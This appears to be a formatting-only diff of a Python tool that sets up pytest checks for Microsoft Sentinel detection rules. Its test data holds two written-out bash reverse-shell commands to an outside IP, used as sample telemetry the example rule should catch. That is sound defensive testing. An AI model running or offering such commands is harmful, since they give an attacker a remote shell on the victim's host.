@@ -80,21 +80,34 @@ kind: Scheduled
 
 # As the Sentinel portal exports query results: a header row, "[UTC]" on datetime headers,
 # JSON text in dynamic columns, an empty cell for no value.
-MATCH_CSV = "\n".join([
-    "Timestamp [UTC],DeviceName,AccountName,FolderPath,ProcessCommandLine,"
-    "InitiatingProcessFileName,InitiatingProcessCommandLine,AdditionalFields",
-    '2025-11-04T14:02:11.000Z,app-07.corp.example,svc-tomcat,/usr/bin/bash,'
-    '"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",java,"java -jar /opt/app/service.jar",'
-    '"{""source"": ""export""}"',
-    '2025-11-04T14:09:40.000Z,app-07.corp.example,svc-tomcat,/usr/bin/bash,'
-    '"/bin/bash -li >& /dev/tcp/203.0.113.50/443 0>&1",java,"java -jar /opt/app/service.jar",',
-]) + "\n"
+MATCH_CSV = (
+    "\n".join(
+        [
+            "Timestamp [UTC],DeviceName,AccountName,FolderPath,ProcessCommandLine,"
+            "InitiatingProcessFileName,InitiatingProcessCommandLine,AdditionalFields",
+            "2025-11-04T14:02:11.000Z,app-07.corp.example,svc-tomcat,/usr/bin/bash,"
+            '"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",java,"java -jar /opt/app/service.jar",'
+            '"{""source"": ""export""}"',
+            "2025-11-04T14:09:40.000Z,app-07.corp.example,svc-tomcat,/usr/bin/bash,"
+            '"/bin/bash -li >& /dev/tcp/203.0.113.50/443 0>&1",java,"java -jar /opt/app/service.jar",',
+        ]
+    )
+    + "\n"
+)
 
-NOMATCH_JSONL = json.dumps({
-    "Timestamp": "2025-11-04T13:55:00Z", "DeviceName": "app-07.corp.example",
-    "AccountName": "deploy", "FolderPath": "/usr/bin/bash",
-    "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432 && echo open'",
-    "InitiatingProcessFileName": "ansible"}) + "\n"
+NOMATCH_JSONL = (
+    json.dumps(
+        {
+            "Timestamp": "2025-11-04T13:55:00Z",
+            "DeviceName": "app-07.corp.example",
+            "AccountName": "deploy",
+            "FolderPath": "/usr/bin/bash",
+            "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432 && echo open'",
+            "InitiatingProcessFileName": "ansible",
+        }
+    )
+    + "\n"
+)
 
 TESTS_YAML = """\
 # Alerts the rule may raise over ctirealm's benign background before it fails.
@@ -139,8 +152,9 @@ def pytest_configured(folder: Path) -> str | None:
     """The file that already configures pytest in *folder*, if any."""
     if (folder / "pytest.ini").is_file():
         return "pytest.ini"
-    if (folder / "pyproject.toml").is_file() and \
-            "[tool.pytest.ini_options]" in (folder / "pyproject.toml").read_text(encoding="utf-8"):
+    if (folder / "pyproject.toml").is_file() and "[tool.pytest.ini_options]" in (
+        folder / "pyproject.toml"
+    ).read_text(encoding="utf-8"):
         return "pyproject.toml"
     for name, section in (("tox.ini", "pytest"), ("setup.cfg", "tool:pytest")):
         path = folder / name
@@ -165,8 +179,11 @@ def existing_rules(folder: Path) -> list[Path]:
         parts = path.relative_to(folder).parts
         if any(p.startswith(".") or p in _SKIPPED or p.endswith(".tests") for p in parts[:-1]):
             continue
-        if path.suffix.lower() in (".yaml", ".yml", ".json") and path.is_file() and \
-                content_kind(path) in ("sentinel", "sentinel_hunting", "defender"):
+        if (
+            path.suffix.lower() in (".yaml", ".yml", ".json")
+            and path.is_file()
+            and content_kind(path) in ("sentinel", "sentinel_hunting", "defender")
+        ):
             found.append(path)
     example = folder / "detections" / f"{RULE}.yaml"
     return [] if found == [example] else found
@@ -191,8 +208,7 @@ def init(folder: Path) -> list[tuple[str, str]]:
         (folder / "pytest.ini").write_text(PYTEST_INI.format(folder=where), encoding="utf-8")
         done.append(("pytest.ini", f"created (content: {where}/)"))
     else:
-        done.append((configured, f"exists, left alone: add 'realm_content = {where}' to its "
-                                 "pytest section"))
+        done.append((configured, f"exists, left alone: add 'realm_content = {where}' to its pytest section"))
     for relative, text in files().items():
         if rules and relative.startswith("detections/"):
             continue
@@ -208,12 +224,15 @@ def init(folder: Path) -> list[tuple[str, str]]:
 
 def register(subparsers: argparse._SubParsersAction) -> None:
     parser = subparsers.add_parser(
-        "init", help="set up this folder to gate its own detections with pytest",
+        "init",
+        help="set up this folder to gate its own detections with pytest",
         description="Write pytest.ini (the content gate on detections/), an example Sentinel "
-                    "rule with test data, and a GitHub Actions workflow. Existing files are "
-                    "never overwritten.")
-    parser.add_argument("folder", nargs="?", type=Path, default=Path("."),
-                        help="where to write (default: the current folder)")
+        "rule with test data, and a GitHub Actions workflow. Existing files are "
+        "never overwritten.",
+    )
+    parser.add_argument(
+        "folder", nargs="?", type=Path, default=Path("."), help="where to write (default: the current folder)"
+    )
     parser.set_defaults(handler=_init)
 
 
@@ -225,8 +244,10 @@ def _init(args: argparse.Namespace) -> int:
     for relative, what in init(folder):
         print(f"{relative}: {what}")
     if found:
-        print(f"found {found} Sentinel or Defender rules of your own, so no example rule was "
-              "written; "
-              "test data for a rule goes in <rule>.tests/match/<Table>.csv beside it")
+        print(
+            f"found {found} Sentinel or Defender rules of your own, so no example rule was "
+            "written; "
+            "test data for a rule goes in <rule>.tests/match/<Table>.csv beside it"
+        )
     print("next: pytest -rs")
     return 0
